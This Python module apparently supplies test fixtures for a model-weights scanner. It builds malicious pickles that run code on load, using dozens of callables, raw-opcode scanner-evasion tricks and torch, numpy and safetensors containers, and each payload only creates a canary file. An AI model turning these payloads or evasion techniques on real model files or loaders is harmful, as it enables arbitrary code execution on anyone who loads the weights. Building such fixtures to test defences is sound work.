"""Pickles that run something when they are loaded, in every container that weights come in.

Each leaves a file behind, its canary, and does nothing else. They are made here as attackers make
them; nothing in dico writes a pickle.
"""

import bz2
import code
import cProfile
import gzip
import importlib
import io
import logging
import lzma
import marshal
import os
import pickle
import runpy
import shutil
import sqlite3
import struct
import subprocess
import tarfile
import time
import timeit
import urllib.request
import zipfile
from collections.abc import Callable
from functools import partial
from operator import attrgetter, methodcaller
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """Pickles as the call of a function; the function may be the result of another call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._function, self._arguments = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._function, self._arguments

    def __call__(self) -> None:
        """Only so that pickle takes it for a function."""


def payloads(folder: Path) -> dict[str, bytes]:
    """Pickles by name; each creates ``folder / f"{name}.canary"`` when it is loaded."""
    folder.mkdir(parents=True, exist_ok=True)
    made = {
        name: pickle.dumps(build(str(folder / f"{name}.canary"))) for name, build in CALLS.items()
    }
    for name, build in OPCODES.items():
        made[name] = build(str(folder / f"{name}.canary"))
    return made


def _touch(path: str) -> str:
    return f"touch '{path}'"


def _write(path: str) -> str:
    return f"open({path!r}, 'w')"


def _system(path: str) -> bytes:
    return pickle.dumps(Call(os.system, _touch(path)))


def _marshalled(path: str) -> Call:
    compiled = marshal.dumps(compile(_write(path), "x", "exec"))
    function_type = Call(getattr, Call(importlib.import_module, "types"), "FunctionType")
    names = {"__builtins__": {"open": open}}
    return Call(Call(function_type, Call(marshal.loads, compiled), names))


def _torch_load(path: str) -> Call:
    Path(path).with_suffix(".pt").write_bytes(torch_zip(_system(path)))
    return Call(partial(torch.load, weights_only=False), str(Path(path).with_suffix(".pt")))


def _numpy_load(path: str) -> Call:
    Path(path).with_suffix(".npy").write_bytes(npy(_system(path)))
    return Call(partial(np.load, allow_pickle=True), str(Path(path).with_suffix(".npy")))


def _module_attribute(module: str, name: str) -> Any:
    return attrgetter(name)(importlib.import_module(module))


CALLS: dict[str, Callable[[str], Any]] = {
    "os.system": lambda path: Call(os.system, _touch(path)),
    "os.system in a dict": lambda path: {"weight": [Call(os.system, _touch(path))]},
    "os.system as a key": lambda path: {(Call(os.system, _touch(path)),): 1},
    "os.popen": lambda path: Call(methodcaller("read"), Call(os.popen, _touch(path))),
    "os.mkdir": lambda path: Call(os.mkdir, path),
    "os.makedirs": lambda path: Call(os.makedirs, path),
    "os.mkfifo": lambda path: Call(os.mkfifo, path),
    "os.symlink": lambda path: Call(os.symlink, __file__, path),
    "os.link": lambda path: Call(os.link, __file__, path),
    "os.open": lambda path: Call(os.open, path, os.O_CREAT | os.O_WRONLY),
    "os.spawnv": lambda path: Call(os.spawnv, os.P_WAIT, "/bin/touch", ["touch", path]),
    "os.posix_spawn": lambda path: Call(
        os.waitpid, Call(os.posix_spawn, "/bin/touch", ["touch", path], {}), 0
    ),
    "subprocess.call": lambda path: Call(subprocess.call, ["touch", path]),
    "subprocess.run": lambda path: Call(subprocess.run, ["touch", path]),
    "subprocess.getoutput": lambda path: Call(subprocess.getoutput, _touch(path)),
    "subprocess.check_output": lambda path: Call(subprocess.check_output, ["touch", path]),
    "subprocess.Popen": lambda path: Call(
        methodcaller("wait"), Call(subprocess.Popen, ["touch", path])
    ),
    "eval": lambda path: Call(eval, _write(path)),
    "exec": lambda path: Call(exec, _write(path)),
    "compile": lambda path: Call(exec, Call(compile, _write(path), "x", "exec")),
    "open": lambda path: Call(open, path, "w"),
    "__import__": lambda path: Call(Call(getattr, Call(__import__, "os"), "system"), _touch(path)),
    "map": lambda path: Call(list, Call(map, os.system, [_touch(path)])),
    "filter": lambda path: Call(any, Call(filter, os.system, [_touch(path)])),
    "max": lambda path: Call(partial(max, key=os.system), [_touch(path), "true"]),
    "io.FileIO": lambda path: Call(io.FileIO, path, "w"),
    "bz2.open": lambda path: Call(bz2.open, path, "wb"),
    "gzip.open": lambda path: Call(gzip.open, path, "wb"),
    "lzma.open": lambda path: Call(lzma.open, path, "wb"),
    "zipfile.ZipFile": lambda path: Call(zipfile.ZipFile, path, "w"),
    "tarfile.open": lambda path: Call(tarfile.open, path, "w"),
    "logging.FileHandler": lambda path: Call(logging.FileHandler, path),
    "sqlite3.connect": lambda path: Call(
        methodcaller("execute", "create table a (b)"), Call(sqlite3.connect, path)
    ),
    "shutil.copyfile": lambda path: Call(shutil.copyfile, __file__, path),
    "urlretrieve": lambda path: Call(urllib.request.urlretrieve, f"file://{__file__}", path),
    "Path.touch": lambda path: Call(Path.touch, Path(path)),
    "Path.write_text": lambda path: Call(Path.write_text, Path(path), "x"),
    "methodcaller": lambda path: Call(methodcaller("touch"), Path(path)),
    "attrgetter": lambda path: Call(
        Call(attrgetter("system"), Call(importlib.import_module, "os")), _touch(path)
    ),
    "partial": lambda path: Call(partial(os.system, _touch(path))),
    "marshal": _marshalled,
    "timeit": lambda path: Call(timeit.timeit, _write(path), "pass", time.perf_counter, 1),
    "cProfile": lambda path: Call(cProfile.runctx, _write(path), {}, {}, "/dev/null"),
    "runpy": lambda path: Call(runpy._run_code, _write(path), {}),
    "code": lambda path: Call(
        methodcaller("runsource", _write(path)), Call(code.InteractiveInterpreter)
    ),
    "pickle.loads": lambda path: Call(pickle.loads, _system(path)),
    "pickle.load": lambda path: Call(pickle.load, Call(io.BytesIO, _system(path))),
    "torch.load": _torch_load,
    "numpy.load": _numpy_load,
    "numpy runstring": lambda path: Call(
        _module_attribute("numpy.testing._private.utils", "runstring"), _write(path), {}
    ),
    "torch.fx": lambda path: Call(
        _module_attribute("torch.fx.graph_module", "_exec_with_source"), _write(path), {}
    ),
}


def _word(text: str) -> bytes:
    """Opcode of a string."""
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def _named(module: str, name: str) -> Callable[[str], bytes]:
    """A command by protocol 4's way to name a function, whose name may have dots in it."""
    function = _word(module) + _word(name) + b"\x93"
    return lambda path: b"\x80\x04" + function + _word(_touch(path)) + b"\x85R."


OPCODES: dict[str, Callable[[str], bytes]] = {
    "GLOBAL": lambda path: b"cos\nsystem\n(" + _word(_touch(path)) + b"tR.",
    "INST": lambda path: b"(" + _word(_touch(path)) + b"ios\nsystem\n.",
    "OBJ": lambda path: b"(cos\nsystem\n" + _word(_touch(path)) + b"o.",
    "memo": lambda path: b"cos\nsystem\np0\n0g0\n" + _word(_touch(path)) + b"\x85R.",
    "posix": _named("posix", "system"),
    "dotted name": _named("os.path", "os.system"),
    "through torch": _named("torch", "os.system"),
    "through torch.serialization": _named("torch.serialization", "os.system"),
    "through shutil": _named("shutil", "os.system"),
    # An object whose own attribute is what the next opcode calls.
    "APPEND": lambda path: (
        b"ctypes\nSimpleNamespace\n)R}(" + _word("append") + b"cos\nsystem\nub"
        + _word(_touch(path)) + b"a."
    ),
    "ADDITEMS": lambda path: (
        b"\x80\x04ctypes\nSimpleNamespace\n)R}(" + _word("add") + b"cos\nsystem\nub("
        + _word(_touch(path)) + b"\x90."
    ),
}  # fmt: skip


def torch_zip(data: bytes, root: str = "archive") -> bytes:
    """torch's zip format with ``data`` in the place of its pickle."""
    return _zip(
        {f"{root}/data.pkl": data, f"{root}/version": b"3\n", f"{root}/byteorder": b"little"}
    )


def npy(data: bytes) -> bytes:
    """A numpy file of objects, whose content is the pickle ``data``."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _legacy(data: bytes) -> bytes:
    """torch's format before 1.6: magic number, protocol, system, then the object."""
    parts = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    return b"".join(pickle.dumps(part, 2) for part in parts) + data + pickle.dumps([], 2)


def _tar(data: bytes) -> bytes:
    """torch's oldest format."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return file.getvalue()


def _before_tensors(data: bytes) -> bytes:
    """A state dict saved by torch, in whose pickle the payload runs first."""
    file = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, file)
    with zipfile.ZipFile(file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    (name,) = [name for name in members if name.endswith("/data.pkl")]
    members[name] = data[:-1] + b"0" + members[name]
    return _zip(members)


def _torchscript(data: bytes) -> bytes:
    """The layout of a TorchScript archive, such as OpenAI's CLIP."""
    return _zip({"m/data.pkl": data, "m/constants.pkl": data, "m/version": b"3\n"})


def _safetensors(data: bytes) -> bytes:
    """A sound safetensors file whose one tensor is the payload."""
    header = b'{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data), len(data))
    return struct.pack("<Q", len(header)) + header + data


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "pickle": lambda data: data,
    "torch zip": torch_zip,
    "torch zip with an odd root": lambda data: torch_zip(data, "../x"),
    "torch legacy": _legacy,
    "torch tar": _tar,
    "before tensors": _before_tensors,
    "torchscript": _torchscript,
    "numpy": npy,
    "gzip": gzip.compress,
    "safetensors": _safetensors,
}
